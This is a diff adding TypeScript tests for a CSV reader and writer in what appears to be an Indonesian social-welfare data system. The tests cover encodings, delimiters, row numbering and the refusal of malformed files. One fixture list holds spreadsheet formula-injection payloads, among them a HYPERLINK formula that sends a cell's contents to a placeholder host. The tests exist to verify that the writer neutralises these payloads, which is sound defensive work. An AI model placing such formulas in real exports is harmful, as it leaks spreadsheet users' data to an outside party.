@@ -1,0 +1,268 @@
+import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { test } from '@japa/runner'
+import { parse } from 'csv-parse/sync'
+import iconv from 'iconv-lite'
+import { guard, unguard, type Column, type Row } from '#services/documents/cells'
+import { columnName, openCsv, type CsvRow } from '#services/documents/csv_reader'
+import { writeCsv, type CsvOptions } from '#services/documents/csv_writer'
+import { DocumentRefused } from '#services/documents/errors'
+
+let folder = ''
+
+async function file(content: string | Uint8Array): Promise<string> {
+  const path = join(folder, 'uji.csv')
+  await writeFile(path, content)
+  return path
+}
+
+async function read(content: string | Uint8Array) {
+  const { rows, ...table } = await openCsv(await file(content))
+  const found: CsvRow[] = []
+  for await (const row of rows) found.push(row)
+  return { ...table, rows: found }
+}
+
+async function refusal(content: string | Uint8Array): Promise<string> {
+  try {
+    await read(content)
+    return 'accepted'
+  } catch (error) {
+    return error instanceof DocumentRefused ? error.message : `unexpected ${String(error)}`
+  }
+}
+
+async function written(columns: Column[], rows: Iterable<Row> | AsyncIterable<Row>, options: CsvOptions): Promise<Buffer> {
+  const chunks: Uint8Array[] = []
+  for await (const chunk of writeCsv(columns, rows, options)) chunks.push(chunk)
+  return Buffer.concat(chunks)
+}
+
+const texts = (...headers: string[]): Column[] => headers.map((header) => ({ header, type: 'text' }))
+
+/** Field case S17, with texts that already begin with an apostrophe. */
+const FORMULAS = [
+  '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
+  '+62811000000',
+  '-UJI',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  "'=1+1",
+  "''-UJI",
+]
+
+test.group('CSV reading', (group) => {
+  group.each.setup(async () => {
+    folder = await mkdtemp(join(tmpdir(), 'siks-csv-'))
+    return () => rm(folder, { recursive: true })
+  })
+
+  test('reads what Indonesian Excel saves: byte-order mark, semicolons, CRLF (S08)', async ({ assert }) => {
+    const table = await read('\uFEFFnik;nama;tgl_lahir;penghasilan\r\n3201014507859901;SITI UJI;05/07/1985;1.250.000,50\r\n')
+    assert.deepEqual(table.headers, ['nik', 'nama', 'tgl_lahir', 'penghasilan'])
+    assert.equal(table.delimiter, ';')
+    assert.equal(table.encoding, 'UTF-8')
+    assert.deepEqual(table.rows, [{ row: 2, cells: ['3201014507859901', 'SITI UJI', '05/07/1985', '1.250.000,50'] }])
+  })
+
+  test('reads the same record with {name}')
+    .with([
+      {
+        name: 'commas and a quoted decimal comma',
+        content: 'nik,nama,n\n3201014507859901,SITI UJI,"1.250.000,50"\n',
+        delimiter: ',',
+      },
+      { name: 'tabs', content: 'nik\tnama\tn\r\n3201014507859901\tSITI UJI\t1.250.000,50', delimiter: '\t' },
+      {
+        name: 'a sep= line before the header',
+        content: 'sep=;\r\nnik;nama;n\r\n3201014507859901;SITI UJI;1.250.000,50\r\n',
+        delimiter: ';',
+      },
+      {
+        name: 'a sep= line after a mark',
+        content: '\uFEFFsep=,\nnik,nama,n\n3201014507859901,SITI UJI,"1.250.000,50"',
+        delimiter: ',',
+      },
+      { name: 'old Mac line ends', content: 'nik;nama;n\r3201014507859901;SITI UJI;1.250.000,50\r', delimiter: ';' },
+      {
+        name: 'a quoted header that holds commas',
+        content: '"nik";"nama";"N, (,)"\n3201014507859901;SITI UJI;1.250.000,50',
+        delimiter: ';',
+      },
+    ])
+    .run(async ({ assert }, { content, delimiter }) => {
+      const table = await read(content)
+      assert.deepEqual(table.headers, ['nik', 'nama', 'n'])
+      assert.equal(table.delimiter, delimiter)
+      assert.deepEqual(table.rows, [{ row: 2, cells: ['3201014507859901', 'SITI UJI', '1.250.000,50'] }])
+    })
+
+  test('reads {encoding} with its letters whole')
+    .with([
+      { encoding: 'UTF-8', bytes: iconv.encode('nama;alamat\r\nRENÉ – MA’RUF;JL. “UJI”\r\n', 'utf-8') },
+      { encoding: 'UTF-16LE', bytes: iconv.encode('\uFEFFnama;alamat\r\nRENÉ – MA’RUF;JL. “UJI”\r\n', 'utf-16le') },
+      { encoding: 'UTF-16BE', bytes: iconv.encode('\uFEFFnama;alamat\r\nRENÉ – MA’RUF;JL. “UJI”\r\n', 'utf-16be') },
+      { encoding: 'UTF-16LE', bytes: iconv.encode('nama;alamat\r\nRENÉ – MA’RUF;JL. “UJI”\r\n', 'utf-16le') },
+      { encoding: 'Windows-1252', bytes: iconv.encode('nama;alamat\r\nRENÉ – MA’RUF;JL. “UJI”\r\n', 'windows-1252') },
+    ])
+    .run(async ({ assert }, { encoding, bytes }) => {
+      const table = await read(bytes)
+      assert.equal(table.encoding, encoding)
+      assert.deepEqual(table.rows, [{ row: 2, cells: ['RENÉ – MA’RUF', 'JL. “UJI”'] }])
+    })
+
+  test('finds an encoding fault far behind the head of the file', async ({ assert }) => {
+    const table = await read(
+      Buffer.concat([Buffer.from(`nama\n${'SITI UJI\n'.repeat(30_000)}`), iconv.encode('RENÉ\n', 'windows-1252')]),
+    )
+    assert.equal(table.encoding, 'Windows-1252')
+    assert.deepEqual(table.rows.at(-1), { row: 30_002, cells: ['RENÉ'] })
+  })
+
+  test('numbers rows as a spreadsheet does: header 1, blank rows and line breaks inside a cell counted', async ({ assert }) => {
+    const { rows } = await read('nik;nama\n\n1;"SITI\nUJI"\n;\n  ; \n2;UJI DUA\n')
+    assert.deepEqual(rows, [
+      { row: 3, cells: ['1', 'SITI\nUJI'] },
+      { row: 6, cells: ['2', 'UJI DUA'] },
+    ])
+  })
+
+  test('keeps quotes inside a name, fills short rows and drops empty surplus columns', async ({ assert }) => {
+    const { headers, rows } = await read('nama;alamat;rt;;\nABDUL "UJI" CONTOH;"RT ""01"" & SEKITARNYA";1;;\nSITI UJI\n')
+    assert.deepEqual(headers, ['nama', 'alamat', 'rt'])
+    assert.deepEqual(rows, [
+      { row: 2, cells: ['ABDUL "UJI" CONTOH', 'RT "01" & SEKITARNYA', '1'] },
+      { row: 3, cells: ['SITI UJI', '', ''] },
+    ])
+  })
+
+  test('marks a row with too many cells or with spoilt letters and goes on with the next', async ({ assert }) => {
+    const { rows } = await read('nik;nama\n1;SITI;UJI\n2;REN\uFFFD\n3;UJI\u0000\n4;UJI EMPAT\n')
+    const spoilt = 'Kolom ke-2 berisi tanda yang rusak (huruf yang hilang saat berkas disimpan).'
+    const surplus = 'Baris berisi 3 kolom, sedangkan judulnya 2. Periksa tanda pemisah di dalam isian.'
+    assert.deepEqual(
+      rows.map(({ row, problem }) => [row, problem]),
+      [
+        [2, surplus],
+        [3, spoilt],
+        [4, spoilt],
+        [5, undefined],
+      ],
+    )
+  })
+
+  test('refuses {name}')
+    .with([
+      { name: 'an empty file', content: '', reason: 'Berkas kosong' },
+      { name: 'a file with nothing but blank lines', content: '\r\n', reason: 'Baris judul kosong' },
+      { name: 'a workbook', content: 'PK\x03\x04rest', reason: 'berkas Excel atau ZIP' },
+      { name: 'an old workbook', content: Buffer.from('d0cf11e0a1b11ae1', 'hex'), reason: 'berkas Excel atau ZIP' },
+      { name: 'a PDF', content: '%PDF-1.7', reason: 'PDF' },
+      { name: 'bytes that are no text', content: Buffer.from([0x6e, 0x3b, 0x0a, 0xff, 0x01, 0x8d]), reason: 'bukan teks' },
+      { name: 'a UTF-8 mark before other bytes', content: Buffer.from('efbbbf6e3b0ae9', 'hex'), reason: 'bertanda UTF-8' },
+      { name: 'a doubled column', content: 'nik;NIK \n1;2\n', reason: 'Kolom "nik" ada dua kali' },
+      { name: 'a spoilt header', content: 'nik;nam\uFFFD\n', reason: 'Baris judul berisi tanda yang rusak' },
+      { name: 'a quote that never closes', content: `nik;nama\n1;UJI\n2;"${'x'.repeat(1_100_000)}`, reason: 'setelah baris 2' },
+    ])
+    .run(async ({ assert }, { content, reason }) => {
+      assert.include(await refusal(content), reason)
+    })
+
+  test('names the column of heading {heading} {name}')
+    .with([
+      { heading: 'NIK ', name: 'nik' },
+      { heading: ' nama', name: 'nama' },
+      { heading: 'JnsKel', name: 'jns_kel' },
+      { heading: 'NoKK', name: 'no_kk' },
+      { heading: 'IDARTBDT', name: 'idartbdt' },
+      { heading: 'Sta_keberadaan_RT', name: 'sta_keberadaan_rt' },
+      { heading: 'Tgl. Lahir', name: 'tgl_lahir' },
+      { heading: "'=1+1", name: '1_1' },
+      { heading: 'penghasilan (Rp)', name: 'penghasilan_rp' },
+    ])
+    .run(({ assert }, { heading, name }) => {
+      assert.equal(columnName(heading), name)
+    })
+
+  test('lets go of the file when reading stops early', async ({ assert }) => {
+    const open = async () => (await readdir('/dev/fd')).length
+    const before = await open()
+    for (let i = 0; i < 5; i++) {
+      const table = await openCsv(await file(`nama\n${'SITI UJI\n'.repeat(100_000)}`))
+      if (i % 2 === 0) await table.rows.next()
+      await table.close()
+    }
+    await new Promise((resolve) => setTimeout(resolve, 50))
+    assert.isAtMost(await open(), before)
+  })
+})
+
+test.group('CSV writing', (group) => {
+  group.each.setup(async () => {
+    folder = await mkdtemp(join(tmpdir(), 'siks-csv-'))
+    return () => rm(folder, { recursive: true })
+  })
+
+  test('writes a mark, CRLF, plain numbers, quoted signs and the last row', async ({ assert }) => {
+    const columns: Column[] = [...texts('nik', 'nama'), { header: 'lat', type: 'number' }, { header: 'tgl', type: 'date' }]
+    const rows: Row[] = [
+      ['0012', 'UJI; "DUA"', -6.2, '1962-12-25'],
+      ['3201014507859901', null, '-6.25', undefined],
+    ]
+    assert.equal(
+      (await written(columns, rows, { delimiter: ';', bom: true })).toString(),
+      '\uFEFFnik;nama;lat;tgl\r\n0012;"UJI; ""DUA""";-6.2;1962-12-25\r\n3201014507859901;;-6.25;\r\n',
+    )
+    assert.equal((await written(columns, [], { delimiter: ',', bom: false })).toString(), 'nik,nama,lat,tgl\r\n')
+  })
+
+  test('guards and quotes every text that a spreadsheet would run, heading included, and reads it back as it was (S17)', async ({
+    assert,
+  }) => {
+    const columns: Column[] = [...texts('=1+1', 'nama'), { header: 'lat', type: 'number' }]
+    const rows = FORMULAS.map((text): Row => [text, `${text} UJI`, -6.2])
+    const bytes = await written(columns, rows, { delimiter: ';', bom: true })
+    const cells = parse(bytes, { bom: true, delimiter: ';' }) as string[][]
+    assert.lengthOf(cells, 1 + FORMULAS.length)
+    for (const [first, second] of cells.slice(1)) assert.match(`${first} ${second}`, /^'.* '/s)
+    assert.equal(cells[0]![0], "'=1+1")
+    assert.isTrue(cells.slice(1).every(([, , latitude]) => latitude === '-6.2'))
+    assert.include(bytes.toString(), '"\'+62811000000";"\'+62811000000 UJI";-6.2')
+    const table = await read(bytes)
+    assert.deepEqual(
+      table.rows.map(({ cells }) => cells),
+      FORMULAS.map((text) => [text, `${text} UJI`, '-6.2']),
+    )
+  })
+
+  test('takes away only the apostrophe of a guard', ({ assert }) => {
+    for (const text of [...FORMULAS, "'3201014507859901", "'", "''", "'UJI'", "MA'RUF", '', 'UJI-DUA', '1=1']) {
+      assert.equal(unguard(guard(text)), text)
+    }
+    assert.equal(unguard("'3201014507859901"), "'3201014507859901")
+    assert.equal(unguard("'-UJI"), '-UJI')
+    assert.equal(guard("MA'RUF"), "MA'RUF")
+  })
+
+  test('stays in constant memory over a million rows and back', async ({ assert }) => {
+    const columns = texts('nik', 'nama', 'alamat')
+    function* rows(): Generator<Row> {
+      for (let i = 0; i < 1_000_000; i++) yield [String(3201014507850000 + i), 'SITI UJI', 'RT 01/RW 02 & SEKITARNYA']
+    }
+    const path = join(folder, 'besar.csv')
+    await writeFile(path, writeCsv(columns, rows(), { delimiter: ';', bom: true }))
+    const table = await openCsv(path)
+    let [count, last, peak] = [0, '', 0]
+    for await (const { cells } of table.rows) {
+      count++
+      last = cells[0]!
+      if (count % 50_000 === 0) peak = Math.max(peak, process.memoryUsage().heapUsed + process.memoryUsage().external)
+    }
+    assert.equal(count, 1_000_000)
+    assert.equal(last, '3201014508849999')
+    assert.isBelow(peak / 1024 ** 2, 250)
+  }).timeout(60_000)
+})
